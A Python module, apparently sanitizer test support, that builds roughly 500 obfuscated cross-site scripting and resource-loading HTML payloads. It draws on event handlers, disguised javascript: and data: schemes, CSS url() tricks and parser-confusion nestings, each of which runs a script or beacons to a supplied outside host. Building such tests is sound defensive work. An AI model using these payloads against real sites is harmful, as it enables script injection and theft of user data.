"""HTML that means harm, made by rule: every way to run a script or to load something, in many disguises."""

from collections.abc import Iterator
from itertools import product

HANDLERS = (
    "load error click focus blur mouseover mouseenter pointerover wheel scroll resize animationstart "
    "animationend transitionend toggle beforetoggle pageshow hashchange message popstate start finish bounce "
    "canplay loadstart loadeddata progress suspend cut copy paste submit invalid search select "
    "unhandledrejection begin end repeat contentvisibilityautostatechange scrollend securitypolicyviolation"
)
CARRIERS = [
    "<p {} tabindex=0 autofocus>x</p>",
    "<img src=x {}>",
    "<details open {}><summary>x</summary></details>",
    "<body {}>x</body>",
    "<marquee {}>x</marquee>",
]
SCHEMES = [
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "java&#115;cript:{}",
    "java&Tab;script&colon;{}",
    "&#x6A&#x61vascript:{}",
    "&#1;javascript:{}",
    " \x01javascript:{}",
    "\u00a0javascript:{}",
    "javascript://example.com/%0a{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{}</script>",
    "blob:null/{}",
    "filesystem:http://x/{}",
    "view-source:javascript:{}",
    "feed:javascript:{}",
]
ADDRESSED = [
    '<a href="{}">x</a>',
    '<iframe src="{}"></iframe>',
    '<img src="{}">',
    '<form action="{}"><input type=submit autofocus></form>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<svg><a xlink:href="{}"><text>x</text></a><use href="{}"/></svg>',
]
LOADERS = [
    "<img src='{}'>",
    "<img srcset='{} 1x, {} 2x'>",
    "<picture><source srcset='{}'><img></picture>",
    "<img lowsrc='{}' dynsrc='{}' longdesc='{}' usemap='{}'>",
    "<image src='{}'>",
    "<input type=image src='{}'>",
    "<video src='{}' poster='{}' autoplay></video>",
    "<audio src='{}' autoplay></audio>",
    "<video><source src='{}'><track src='{}' default></video>",
    "<table background='{}'><tr background='{}'><td background='{}'>x</table>",
    "<body background='{}'>x",
    "<bgsound src='{}'>",
    "<embed src='{}'>",
    "<object data='{}'></object>",
    "<object classid='{}' codebase='{}'><param name=movie value='{}'></object>",
    "<applet code=x codebase='{}' archive='{}'></applet>",
    "<iframe src='{}'></iframe>",
    "<iframe srcdoc='<img src={}>'></iframe>",
    "<frameset><frame src='{}'></frameset>",
    "<portal src='{}'></portal><fencedframe src='{}'></fencedframe>",
    "<link rel=stylesheet href='{}'>",
    "<link rel=preload as=image href='{}'>",
    "<link rel=prefetch href='{}'>",
    "<link rel=prerender href='{}'>",
    "<link rel=dns-prefetch href='{}'><link rel=preconnect href='{}'>",
    "<link rel=modulepreload href='{}'>",
    "<link rel=icon href='{}'><link rel=manifest href='{}'>",
    "<link rel=import href='{}'><link rel=alternate type=application/rss+xml href='{}'>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<meta http-equiv=refresh content='0,{}'>",
    "<meta http-equiv=Link content='<{}>; rel=prefetch'>",
    "<base href='{}'><img src=x>",
    "<base href='{}'><a href=x>x</a><script src=x></script>",
    "<script src='{}'></script>",
    "<script type=module>import '{}'</script>",
    '<script type=speculationrules>{{"prefetch":[{{"urls":["{}"]}}]}}</script>',
    "<style>@import '{}';</style>",
    "<style>@import url({});</style>",
    "<style>@font-face{{font-family:x;src:url({})}} p{{font-family:x}}</style><p>x</p>",
    "<style>p{{background:url({})}}</style><p>x</p>",
    "<style>@namespace url({}); p::before{{content:url({})}}</style><p>x</p>",
    "<svg><image href='{}' xlink:href='{}'/></svg>",
    "<svg><use href='{}#x'/><feImage href='{}'/></svg>",
    "<svg><style>@import '{}';</style></svg>",
    "<svg><script href='{}'/></svg>",
    "<svg><foreignObject><img src='{}'></foreignObject></svg>",
    "<svg><rect fill='url({}#a)' width=9 height=9 filter='url({}#f)' mask='url({}#m)'/></svg>",
    "<math href='{}'><mtext><img src='{}'></mtext></math>",
    "<form action='{}'><button formaction='{}'>x</button></form>",
    "<a href='{}' ping='{}'>x</a>",
    "<blockquote cite='{}'>x</blockquote><q cite='{}'>x</q><del cite='{}'>x</del>",
    "<html manifest='{}'><head profile='{}'>",
    "<xml src='{}'></xml><v:imagedata src='{}'/><v:fill src='{}'/>",
    "<layer src='{}'></layer><ilayer src='{}'></ilayer>",
    "<isindex action='{}' prompt=x>",
    "<template shadowrootmode=open><img src='{}'></template>",
    "<div><template shadowrootmode=open><style>@import '{}';</style></template></div>",
]
PROPERTIES = (
    "background background-image list-style list-style-image border-image border-image-source cursor content "
    "mask mask-image -webkit-mask -webkit-mask-image -webkit-mask-box-image clip-path filter backdrop-filter "
    "shape-outside src offset-path fill stroke marker marker-start behavior -moz-binding @import "
    "-webkit-border-image -webkit-box-reflect --x"
)
URLS = [
    "url({})",
    "url('{}')",
    "url( &quot;{}&quot; )",
    "u\\72l({})",
    "URL({})",
    "image-set('{}' 1x)",
    "-webkit-image-set(url({}) 1x)",
    "cross-fade(url({}), url({}), 50%)",
    "red url({})",
    "/**/url({})",
    "image(&quot;{}&quot;)",
    "expression(alert(1))",
]
NESTS = [
    "<noscript><p title='</noscript>{}'></noscript>",
    "<template>{}</template>",
    "<!--{}-->",
    "<!-->{}-->",
    "<!--->{}-->",
    "<!--x--!>{}",
    "<![CDATA[{}]]>",
    "<!--[if gte mso 9]>{}<![endif]-->",
    "<![if !mso]>{}<![endif]>",
    "<?xml {}?>",
    "<title>{}</title>",
    "<title></title>{}",
    "<textarea></textarea>{}",
    "<textarea>{}",
    "<select><option>{}</select>",
    "<select><template>{}</template></select>",
    "<xmp>{}</xmp>",
    "<plaintext>{}",
    "<noembed>{}</noembed><noframes>{}</noframes>",
    "<iframe>{}</iframe>",
    "<svg><style>{}</style></svg>",
    "<svg></p><style><a id='</style>{}'>",
    "<math><style>{}</style></math>",
    "<math><mtext><table><mglyph><style><!--</style>{}",
    "<math><annotation-xml encoding='text/html'>{}</annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math>{}",
    "<svg><desc><table><p>{}</table></desc></svg>",
    "<table><caption><svg><title><style>{}</style></title></svg></caption></table>",
    "<p title='{}'>x</p>",
    "<p title=`{}`>x</p>",
    '<p title="&lt;{}">x</p>',
    "<a href='x' title=\"'{}\">x</a>",
    "<<p>{}",
    "<p/{}",
    "<p {}",
    "<x:p xmlns:x='http://www.w3.org/1999/xhtml'>{}</x:p>",
    "&lt;p&gt;{}",
    "\x00{}",
    "+ADw-script+AD4-{}",
    "begin 644 {}\n`\nend\n",
    "<b><i></b>{}</i>",
    "<div><a><div>{}</a></div>" * 3,
    "<font>" * 200 + "{}",
    "<br>" * 600 + "{}",
    "&amp;" * 600 + "{}",
]
SPELLINGS = [
    "<script>{}</script>",
    "<script\x20type='text/javascript'>{}</script >",
    "<ScRiPt>{}</sCrIpT>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script/x>{}</script>",
    "<script\n>{}</script\n>",
    "<\x00script>{}</script>",
    "<script>{}",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "<img src=x onerror={}>",
    "<img/src=x/onerror={}>",
    "<img src=x\nonerror\n=\n{}>",
    '<img src="x`onerror={} ">',
    "<img src='x' onerror\x0b={}>",
    "<img \x00onerror={} src=x>",
    "<img src=x:x onerror&equals;{}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set attributeName=href to='javascript:{}' /><a id=a><text>x</text></a></svg>",
    "<svg><a><animate attributeName=href values='javascript:{}' /><text>x</text></a></svg>",
    "<math><maction actiontype='statusline#http://x' xlink:href='javascript:{}'>x</maction></math>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<embed src='data:image/svg+xml,<svg onload={}>'>",
    "<style>*{{x:expression({})}}</style>",
    "<style onload={}></style>",
    "<link rel=stylesheet href=data:text/css, onload={}>",
    "<base href='javascript:{}//'><a href='/x'>x</a>",
    "<form id=f action='javascript:{}'></form><button form=f formaction='javascript:{}'>x</button>",
    "<input onfocus={} autofocus><select onfocus={} autofocus></select>",
    "<video><source onerror={}></video><audio src=x onerror={}></audio>",
    "<x contenteditable onfocus={} autofocus tabindex=1 id=x>x</x>",
    "<button popovertarget=x>x</button><p id=x popover onbeforetoggle={}>x</p>",
    "<p style='animation:a' onanimationstart={}>x</p><style>@keyframes a{{}}</style>",
]


def payloads(stranger: str) -> Iterator[str]:
    """Yield some 500 pieces of HTML; each asks ``stranger`` for something, runs a script, or both.

    :param stranger: the address of a server that must never be asked.
    """
    address = f"{stranger}/loaded"
    script = f"document.documentElement.title='run',alert(1),new(Image)().src='{stranger}/run'"
    quoted = script.replace("'", "&#39;")
    for number, handler in enumerate(HANDLERS.split()):
        yield CARRIERS[number % len(CARRIERS)].format(f'on{handler}="{quoted}"')
    for scheme, carrier in product(SCHEMES, ADDRESSED):
        yield _filled(carrier, _filled(scheme, quoted))
    for loader in LOADERS:
        yield _filled(loader, address).replace("{{", "{").replace("}}", "}")
        yield _filled(loader, address.removeprefix("http:")).replace("{{", "{").replace("}}", "}")
    for number, each in enumerate(PROPERTIES.split()):
        for url in (URLS[number % len(URLS)], URLS[(number + 5) % len(URLS)], "url({})"):
            yield f'<p style="{each}:{_filled(url, address)}">x</p>'
    for url in URLS:
        value = _filled(url, address)
        yield f'<p style="background:{value}">x</p>'
        yield f"<p style='color:red;background-color:{value};width:{value}'>x</p>"
    for spelling in SPELLINGS:
        yield _filled(spelling, quoted if "=" in spelling.partition("{}")[0][-9:] else script)
    for nest in NESTS:
        yield _filled(nest, f'<img src="{address}" onerror="{quoted}">')
        yield _filled(nest, f"<script>{script}</script>")


def _filled(pattern: str, value: str) -> str:
    return pattern.replace("{}", value)
